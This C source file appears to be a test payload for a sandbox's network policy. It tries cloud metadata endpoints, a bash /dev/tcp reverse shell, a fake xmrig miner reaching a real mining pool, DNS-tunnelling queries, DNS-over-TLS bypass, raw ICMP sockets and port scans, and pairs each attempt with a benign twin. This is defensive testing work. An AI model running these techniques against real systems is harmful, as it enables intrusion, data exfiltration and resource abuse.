// SPDX-License-Identifier: Apache-2.0
/* The network: P39, P40, P43 to P47. Addresses of hosts are those for documentation, but for the ones that the
 * attempt is about; where a policy lets one out, one connection is made and nothing is sent. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "userspace/scenarios/payload/payload.h"

#define NAMES	   200
#define HOSTS	   254
#define PORTS	   100
#define SPIN_NS	   300000000
#define DNS_PACKET 512

/* A question for `name`, to `ip`, port 53. -1 with errno when the kernel did not take it. */
static int ask_dns(int fd, const char *ip, const char *name)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(53) };
	unsigned char q[DNS_PACKET] = { 0x12, 0x34, 1, 0, 0, 1 };
	size_t n = 12;

	while (*name) {
		size_t k = strcspn(name, ".");

		q[n++] = (unsigned char)k;
		memcpy(q + n, name, k);
		n += k;
		name += k + (name[k] == '.');
	}
	n++;
	q[n + 1] = 1; /* A */
	q[n + 3] = 1; /* IN */
	inet_pton(AF_INET, ip, &to.sin_addr);
	return (int)sendto(fd, q, n + 4, MSG_DONTWAIT, (void *)&to, sizeof(to));
}

/* Waits for an answer with an address in it. */
static bool answered(int fd)
{
	struct timeval t = { .tv_usec = 300000 };
	unsigned char a[DNS_PACKET];
	ssize_t n;

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t));
	n = recv(fd, a, sizeof(a), 0);
	return n > 12 && (a[3] & 15) == 0 && (a[6] || a[7]);
}

static void try_name(const char *name)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	bool yes = ask_dns(fd, "127.0.0.1", name) > 0 && answered(fd);

	blocked(!yes, "look up %s", name);
	close(fd);
}

static void p39(void)
{
	try_connect("169.254.169.254", 80);
	try_connect("fd00:ec2::254", 80);
	try_connect("100.100.100.200", 80);
	try_connect("168.63.129.16", 80);
	try_name("metadata.google.internal");
}

/* A listener on loopback, and a connection to it. */
static void own_server(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int to = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	socklen_t n = sizeof(a);

	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (bind(fd, (void *)&a, sizeof(a)) < 0 || listen(fd, 1) < 0 ||
	    getsockname(fd, (void *)&a, &n) < 0)
		did(-1, "listen on loopback");
	else
		did(connect(to, (void *)&a, sizeof(a)), "connect to a server of its own");
	close(to);
	close(fd);
}

static void p39_twin(void)
{
	own_server(0);
}

/* words: where to, when an address was given that the policy lets one reach */
static void p40(void)
{
	const char *ip = words_n > 1 ? words[0] : "192.0.2.1";
	int port = (int)word_u64(1, 4444), r;
	char script[200];

	snprintf(script, sizeof(script),
		 "exec 3<>/dev/tcp/%s/%d && exec bash -i 0<&3 1>&3 2>&3 || exit 9", ip, port);
	r = run("bash", (char *[]){ "bash", "-c", script, NULL });
	if (r == -ENOENT)
		absent("bash");
	else
		blocked(r == 9 || r == 1, "a shell on a connection to %s (%d)", ip, r);
}

static void p40_twin(void)
{
	did(run("sh", (char *[]){ "sh", "-c", "echo x | cat", NULL }) == 0 ? 0 : -1,
	    "a shell with a pipe");
}

/* What a miner does first: its pool's name, a connection, and work. */
static void mine(void)
{
	struct timespec a, b;
	volatile unsigned long long x = 1;

	try_name("pool.supportxmr.com");
	try_connect("198.51.100.7", 3333);
	clock_gettime(CLOCK_MONOTONIC, &a);
	do {
		for (int i = 0; i < 100000; i++)
			x = x * 6364136223846793005ull + 1;
		clock_gettime(CLOCK_MONOTONIC, &b);
	} while ((b.tv_sec - a.tv_sec) * 1000000000ll + b.tv_nsec - a.tv_nsec < SPIN_NS);
}

static void p43(void)
{
	char *const argv[] = { "xmrig",
			       "P43",
			       "work",
			       "-o",
			       "stratum+tcp://pool.supportxmr.com:3333",
			       "-u",
			       "warder-selftest",
			       NULL };
	pid_t pid;

	if (words_n && !strcmp(words[0], "work")) {
		mine();
		return;
	}
	if (!did(copy_self("/workspace/xmrig"), "copy itself as xmrig"))
		return;
	pid = fork();
	if (pid == 0) {
		execv("/workspace/xmrig", argv);
		_exit(127);
	}
	waitpid(pid, NULL, 0);
	unlink("/workspace/xmrig");
}

static void p43_twin(void)
{
	volatile unsigned long long x = 1;

	for (int i = 0; i < 10000000; i++)
		x = x * 6364136223846793005ull + 1;
	did(0, "work");
}

static void p44(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), sent = 0;
	struct timespec pause = { .tv_nsec = 1000000 };
	unsigned long long x = 88172645463325252ull;
	char name[200];

	for (int i = 0; i < NAMES; i++) {
		size_t n = 0;

		for (; n < 60; n++) {
			x ^= x << 13, x ^= x >> 7, x ^= x << 17;
			name[n] = "abcdefghijklmnopqrstuvwxyz234567"[x & 31];
		}
		snprintf(name + n, sizeof(name) - n, ".t.example.net");
		/* Refused by the port of one before: asked again, it goes. */
		if (ask_dns(fd, "127.0.0.1", name) > 0 || ask_dns(fd, "127.0.0.1", name) > 0)
			sent++;
		nanosleep(&pause, NULL);
	}
	errno = EIO;
	did(sent > NAMES / 2 ? 0 : -1, "ask for %d long names", sent);
	blocked(!answered(fd), "answers");
	close(fd);
}

static void p44_twin(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	did(ask_dns(fd, "127.0.0.1", "www.example.net"), "ask for a name");
	close(fd);
}

static void p45(void)
{
	try_connect("1.1.1.1", 853);
	try_connect("9.9.9.9", 853);
	try_connect("8.8.8.8", 443);
}

static void p45_twin(void)
{
	own_server(8443);
}

static void p46(void)
{
	int raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
	int ping = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);

	tried(raw, "a raw socket for ICMP");
	tried(ping, "a ping socket");
	tried(socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6), "a raw socket for ICMPv6");
}

static void p46_twin(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	did(fd, "a UDP socket");
	close(fd);
}

/* Starts so many connections at once; how many are made within half a second? */
static int scan(const char *net, int hosts, int first_port, int ports, int *ret_refused)
{
	struct timespec pause = { .tv_nsec = 2000000 };
	int made = 0;

	for (int h = 1; h <= hosts; h++)
		for (int p = 0; p < ports; p++) {
			struct sockaddr_in a = { .sin_family = AF_INET,
						 .sin_port = htons((uint16_t)(first_port + p)) };
			int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
			char ip[64];
			int r;

			snprintf(ip, sizeof(ip), "%s%d", net, h);
			inet_pton(AF_INET, ip, &a.sin_addr);
			r = connect(fd, (void *)&a, sizeof(a));
			made += r == 0;
			*ret_refused += r < 0 && errno != EINPROGRESS;
			close(fd);
			if (p % 16 == 15 || h % 16 == 15)
				nanosleep(&pause, NULL);
		}
	return made;
}

static void p47(void)
{
	int refused = 0;

	scan("10.0.0.", HOSTS, 22, 1, &refused);
	blocked(refused == HOSTS, "%d of %d hosts of 10.0.0.0/24 out of reach", refused, HOSTS);
	refused = 0;
	blocked(scan("127.0.0.", 1, 1, PORTS, &refused) == 0, "the host's ports on loopback");
}

static void p47_twin(void)
{
	for (int i = 0; i < 3; i++)
		own_server(0);
}

const struct attempt net_attempts[] = {
	{ "P39", p39, p39_twin }, { "P40", p40, p40_twin },
	{ "P43", p43, p43_twin }, { "P44", p44, p44_twin },
	{ "P45", p45, p45_twin }, { "P46", p46, p46_twin },
	{ "P47", p47, p47_twin }, { 0 },
};
